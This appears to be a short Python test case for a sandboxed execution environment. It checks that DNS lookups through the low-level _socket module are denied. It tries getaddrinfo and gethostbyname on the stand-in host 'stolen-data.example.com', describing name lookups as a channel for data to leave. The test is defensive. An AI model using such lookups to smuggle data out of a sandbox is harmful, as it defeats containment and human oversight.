# Looks names up, through which data can leave even without a connection.
# outcome: ok
# contained: "denied"

import _socket


def run(contact, existing_contact, logger, **kwargs):
    contact.results["out"] = "denied"
    for attempt in (
        lambda: _socket.getaddrinfo("stolen-data.example.com", 80),
        lambda: _socket.getaddrinfo("localhost", 80),
        lambda: _socket.gethostbyname("stolen-data.example.com"),
        lambda: _socket.gethostbyaddr("1.1.1.1"),
        lambda: _socket.getnameinfo(("1.1.1.1", 80), 0),
    ):
        try:
            contact.results["out"] = repr(attempt())
        except (OSError, AttributeError):
            pass
    return contact
